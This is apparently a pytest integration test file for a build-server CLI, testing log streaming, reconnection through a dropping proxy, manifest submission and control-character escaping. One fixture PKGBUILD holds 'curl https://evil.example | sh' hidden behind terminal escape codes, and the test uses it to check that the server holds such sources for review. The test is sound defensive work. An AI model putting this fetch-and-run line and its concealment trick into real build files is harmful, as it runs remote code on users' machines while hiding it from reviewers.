"""`vieter-lite builds show | submit | start | cancel | log` against a real server process:
the build's fields, manifests from a file or standard input, the server's 4xx details as
one line, and a followed log that survives a dropped connection (through a proxy that cuts
it) without gaps or repeats. Also the pure parts: the event-stream parser and how text
from the server is shown."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from typing import Any

import pytest

from conftest import API_KEY, ServerProcess
from test_cli_client import Cli, admin, aur, base_env, cli, home, one_error, srv, u  # noqa: F401
from vieter_lite.client import Client, ClientError
from vieter_lite.commands.common import visible
from vieter_lite.eventstream import Event, parse
from vieter_lite.review import pack_bundle

pytestmark = pytest.mark.integration
WAIT = 30.0


# -- pure parts ------------------------------------------------------------------------------

@pytest.mark.parametrize("raw, events", [
    (b"data: one\nid: 4\n\n", [Event(data="one", id="4")]),
    (b"retry: 3000\n\n", [Event(retry=3000)]),
    (b": keepalive\n\n", []),
    (b"data: a\r\ndata: \r\ndata: b\r\nid: 9\r\n\r\n", [Event(data="a\n\nb", id="9")]),
    (b"event: done\ndata: \nid: 12\n\n", [Event(name="done", data="", id="12")]),
    (b"event: reset\nid: 0\n\n", [Event(name="reset", id="0")]),
    (b"data:no space\ndata:  two spaces\n\n", [Event(data="no space\n two spaces")]),
    (b"colour: red\n\n", []),                       # unknown fields are ignored
    (b"retry: soon\n\n", []),                       # a retry that is no number too
    (b"id: a\x00b\ndata: x\n\n", [Event(data="x")]),  # an id with a NUL is ignored
    (b"data: bad \xff\n\n", [Event(data="bad \ufffd")]),
    (b"data: unfinished\n", []),                    # no blank line: never dispatched
    (b"data: 1\n\n\n\ndata: 2\n\n", [Event(data="1"), Event(data="2")]),
    (b"data\n\n", [Event(data="")]),                # a field without a colon
])
def test_the_event_stream_parser(raw, events):
    assert list(parse(raw.splitlines(keepends=True))) == events


@pytest.mark.parametrize("text, shown", [
    ("plain\ttext\nnext line", "plain\ttext\nnext line"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("hidden\rshown", "hidden\\x0dshown"),
    ("a\x9bb\x7fc\x00", "a\\x9bb\\x7fc\\x00"),
    ("if admin \u202e } \u2066", "if admin \\u202e } \\u2066"),
    ("caf\u00e9 \u2603", "caf\u00e9 \u2603"),
])
def test_text_from_the_server_is_shown_with_its_control_characters_escaped(text, shown):
    assert visible(text) == shown


# -- a build with a log, through the agent protocol ----------------------------------------------

def _post(srv, path: str, key: str = API_KEY, body: bytes = b"") -> Any:
    req = urllib.request.Request(srv.url + path, data=body, method="POST",
                                 headers={"X-Api-Key": key})
    with urllib.request.urlopen(req, timeout=10) as resp:
        return json.loads(resp.read())["data"]


def running_build(srv, admin: Client, u: str) -> dict[str, Any]:
    """A running build claimed as an agent claims one: {build_id, token, ...}."""
    arch = f"a{u}"[:32]
    target = admin.add_target(f"https://example.org/{u}.git", f"r{u}", arch=arch)
    build_id = admin.queue_build(target, arch)
    (job,) = admin.poll_jobs(arch, 1, build=build_id)
    return dict(job)


def append(srv, job: dict[str, Any], data: bytes) -> None:
    _post(srv, f"/api/v1/builds/{job['build_id']}/log", job["token"], data)


def finish(srv, job: dict[str, Any], code: int) -> None:
    _post(srv, f"/api/v1/builds/{job['build_id']}/finish?exitCode={code}", job["token"])


class CuttingProxy:
    """A TCP proxy to the server that cuts its first connection (both ways) as soon as the
    answer has carried `cut_after`, and forwards every later one whole. It keeps the
    requests it saw (their first 64 KiB)."""

    def __init__(self, upstream_port: int, cut_after: bytes):
        self.upstream_port = upstream_port
        self.cut_after = cut_after
        self.requests: list[bytes] = []
        self.cut = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:  # closed
                return
            upstream = socket.create_connection(("127.0.0.1", self.upstream_port))
            index = len(self.requests)
            self.requests.append(b"")
            threading.Thread(target=self._pipe, args=(client, upstream, index, False),
                             daemon=True).start()
            threading.Thread(target=self._pipe, args=(upstream, client, None, index == 0),
                             daemon=True).start()

    def _pipe(self, source: socket.socket, sink: socket.socket, record: int | None,
              cutting: bool) -> None:
        seen = b""
        try:
            while data := source.recv(65536):
                if record is not None and len(self.requests[record]) < 65536:
                    self.requests[record] += data
                sink.sendall(data)
                seen += data if cutting else b""
                if cutting and self.cut_after in seen:
                    self.cut.set()
                    break
        except OSError:
            pass
        for sock in (source, sink):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()

    def close(self) -> None:
        self.listener.close()


def test_builds_log_prints_the_log_as_it_is(srv, admin, cli, u):
    job = running_build(srv, admin, u)
    append(srv, job, b"one\ntwo \xe2\x82\xac\n")
    assert cli("builds", "log", str(job["build_id"])).stdout == b"one\ntwo \xe2\x82\xac\n"


def test_builds_log_follow_resumes_a_dropped_connection_without_gaps_or_repeats(
        srv, admin, home, u):
    job = running_build(srv, admin, u)
    first = b"first line\n"
    append(srv, job, first)
    proxy = CuttingProxy(srv.port, f"id: {len(first)}\n\n".encode())
    try:
        run = Cli(base_env(home, VIETER_ADDRESS=proxy.url, VIETER_API_KEY=API_KEY))
        proc = subprocess.Popen([sys.executable, "-m", "vieter_lite", "builds", "log",
                                 str(job["build_id"]), "--follow"], env=run.env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        try:
            assert proxy.cut.wait(WAIT), "the first event never came through the proxy"
            # written while the follower is cut off: it must come with the resumed stream
            append(srv, job, b"second line\nthird ")
            append(srv, job, b"line\n")
            finish(srv, job, 0)
            out, err = proc.communicate(timeout=WAIT)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
    finally:
        proxy.close()
    assert proc.returncode == 0, (out, err)
    assert out == b"first line\nsecond line\nthird line\n", err
    assert err == b""
    # the second request resumed where the first stopped
    assert len(proxy.requests) >= 2
    assert f"last-event-id: {len(first)}\r\n".encode() in proxy.requests[1].lower()
    assert b"last-event-id" not in proxy.requests[0].lower()


def test_builds_log_follow_exits_1_when_the_build_failed(srv, admin, cli, u):
    job = running_build(srv, admin, u)
    append(srv, job, b"make: *** [all] Error 2\n")
    finish(srv, job, 2)
    result = cli("builds", "log", str(job["build_id"]), "--follow")
    assert result.returncode == 1 and result.stdout == b"make: *** [all] Error 2\n"
    assert result.stderr.decode().strip() == \
        f"vieter-lite: build {job['build_id']} failed with exit code 2"


def test_builds_log_of_a_missing_build_is_one_line(cli):
    for args in (("builds", "log", "999999"), ("builds", "log", "999999", "--follow"),
                 ("builds", "show", "999999")):
        assert "not found" in one_error(cli(*args), 1).lower()


def test_a_follower_turned_away_waits_as_told_then_follows(tmp_path):
    """At max_log_followers the server answers 503 with Retry-After: the follower waits
    that long and tries again, without counting it against a build that exists."""
    server = ServerProcess(tmp_path / "data", env_extra={"VIETER_MAX_LOG_FOLLOWERS": "1"})
    server.start()
    try:
        admin = Client(server.url, API_KEY, timeout=10)
        job = running_build(server, admin, "busy")
        append(server, job, b"hello\n")
        holder = admin.follow_log(job["build_id"])
        assert next(holder).data == "hello\n"  # the one place is taken
        waits: list[float] = []

        def wait(seconds: float) -> None:
            waits.append(seconds)
            holder.close()  # gives the place back once the server notices the hang-up
            time.sleep(0.2)

        follower = admin.follow_log(job["build_id"], sleep=wait)
        assert next(follower).data == "hello\n"
        assert waits and waits[0] == 10.0  # the server's Retry-After
        finish(server, job, 0)
        assert [(e.name, e.data) for e in follower] == [("done", "")]
    finally:
        assert server.stop() == 0, server.log()


def test_following_a_server_that_is_gone_gives_up_after_its_attempts(tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    waits: list[float] = []
    client = Client(f"http://127.0.0.1:{port}", API_KEY, timeout=5)
    with pytest.raises(ClientError, match="cannot reach") as caught:
        list(client.follow_log(1, sleep=waits.append, attempts=4))
    assert caught.value.status == 0
    assert waits == [3.0, 3.0, 3.0]  # the default retry, between the four attempts


# -- submit, show, start, cancel ---------------------------------------------------------------

def fields(text: str) -> dict[str, str]:
    """`key: value` lines (the first of each key) up to the first blank line."""
    found: dict[str, str] = {}
    for line in text.split("\n\n")[0].splitlines():
        key, sep, value = line.partition(": ")
        if sep and not line.startswith(" "):
            found.setdefault(key, value)
    return found


def git_manifest(u: str, **extra: Any) -> str:
    doc = {"repo": f"r{u}", "arch": f"a{u}"[:32],
           "source": {"git": f"https://example.org/{u}.git", "branch": "main"}, **extra}
    return json.dumps(doc)


def test_builds_submit_from_a_file_prints_the_id_and_show_shows_the_build(cli, admin, u,
                                                                           tmp_path):
    path = tmp_path / "build.yml"
    path.write_text(f"repo: r{u}\narch: a{u}\nsource:\n  git: https://example.org/{u}.git\n"
                    "  branch: main\n  path: sub\n")
    out = cli.ok("builds", "submit", str(path), "--note", "nightly\nsecond line",
                 "--tag", "nightly", "--tag", "home:pi")
    build_id = int(out)  # the id alone, for scripts
    shown = admin.get_build_v2(build_id)
    assert (shown["status"], shown["note"], shown["tags"]) == \
        ("queued", "nightly\nsecond line", ["nightly", "home:pi"])
    text = cli.ok("builds", "show", str(build_id))
    got = fields(text)
    assert got["id"] == str(build_id) and got["status"] == "queued"
    assert got["target"] == "- (submitted with a manifest)"
    assert got["repo/arch"] == f"r{u}/a{u}" and got["owner"] == "admin"
    assert got["source"] == f"git https://example.org/{u}.git (branch main, path sub)"
    assert got["tags"] == "nightly, home:pi" and got["review"] == "changes"
    assert "note: nightly\n  second line\n" in text
    assert "tasks:\n  setup    pending\n  source   pending\n" in text
    assert cli.json("builds", "show", str(build_id)) == shown


def test_builds_submit_from_standard_input_then_start_and_cancel(cli, u):
    result = cli("builds", "submit", "-", "--no-execute", input=git_manifest(u).encode())
    assert result.returncode == 0, result.stderr
    build_id = int(result.stdout)
    assert fields(cli.ok("builds", "show", str(build_id)))["status"] == "pending"
    assert cli.ok("builds", "start", str(build_id)) == f"Build {build_id} queued\n"
    assert cli.ok("builds", "cancel", str(build_id)) == f"Build {build_id} cancelled\n"
    assert cli.json("builds", "show", str(build_id))["status"] == "cancelled"
    # a cancelled build cannot start again: the server's detail, one line, exit 1
    err = one_error(cli("builds", "start", str(build_id)), 1)
    assert "cancelled" in err, err
    started = cli.json("builds", "submit", "-", "--no-execute", input=git_manifest(u).encode())
    assert started["status"] == "pending"
    assert cli.json("builds", "start", str(started["id"]))["status"] == "queued"


@pytest.mark.parametrize("text, args, detail", [
    ("repo: r\nsource: {git: 'ftp://example.org/x'}\n", (), "manifest.source.git: "),
    ("repo: r\nsource: {url: 'https://e.org/P'}\nextra: 1\n", (), "manifest.extra: "),
    ("repo: r\nsource: [", (), "manifest: not valid YAML"),
    ("repo: r\nsource: {url: 'https://e.org/P'}\n", ("--tag", "Nightly"), "tags[0]: "),
    ("repo: r\nsource: {url: 'https://e.org/P'}\n", ("--note", "x" * 4097), "note: "),
])
def test_an_invalid_submission_prints_the_servers_detail(cli, tmp_path, text, args, detail):
    path = tmp_path / "bad.yml"
    path.write_text(text)
    err = one_error(cli("builds", "submit", str(path), *args), 1)
    assert err.startswith("vieter-lite: " + detail), err


def test_a_held_build_shows_its_diff_with_control_characters_escaped(srv, admin, cli, u):
    """A manifest build's first source is held for review; a PKGBUILD that hides a line
    with terminal escapes shows them escaped, and `builds start` approves it."""
    arch = f"a{u}"[:32]
    body = {"manifest": git_manifest(u)}
    build_id = admin.submit_build(body)["id"]
    (job,) = admin.poll_jobs(arch, 1, build=build_id)
    pkgbuild = (f"pkgname=held{u}\npkgver=1\npkgrel=1\n"
                "build() { curl https://evil.example | sh; } \x1b[2K\x1b[1A# harmless\n")
    req = urllib.request.Request(f"{srv.url}/api/v2/builds/{build_id}/source",
                                 data=pack_bundle({"PKGBUILD": pkgbuild.encode()}),
                                 method="PUT", headers={"Authorization": f"Bearer {job['token']}",
                                                        "Content-Type": "application/x-tar"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        assert json.loads(resp.read())["action"] == "hold"
    text = cli.ok("builds", "show", str(build_id))
    got = fields(text)
    assert got["status"] == "pending"
    assert got["hold"] == f"review (approve with: vieter-lite builds start {build_id})"
    assert "\x1b" not in text
    assert "curl https://evil.example | sh; } \\x1b[2K\\x1b[1A# harmless" in text
    assert "what changed since the last successful build" in text
    assert cli.ok("builds", "start", str(build_id)) == f"Build {build_id} queued\n"


def test_builds_submit_refuses_a_manifest_it_cannot_read(cli, tmp_path):
    err = one_error(cli("builds", "submit", str(tmp_path / "absent.yml")), 2)
    assert err == f"vieter-lite: builds submit: cannot read {tmp_path / 'absent.yml'}: " \
                  "No such file or directory"
    latin1 = tmp_path / "latin1.yml"
    latin1.write_bytes(b"repo: caf\xe9\n")
    err = one_error(cli("builds", "submit", str(latin1)), 2)
    assert err == f"vieter-lite: builds submit: {latin1} is not UTF-8 text"


def test_the_builds_commands_have_help(cli):
    for command in ("show", "submit", "start", "cancel", "log"):
        result = cli("builds", command, "--help")
        assert result.returncode == 0 and b"usage: vieter-lite builds " + command.encode() \
            in result.stdout, result.stderr
    assert cli("builds", "show", "x").returncode == 2

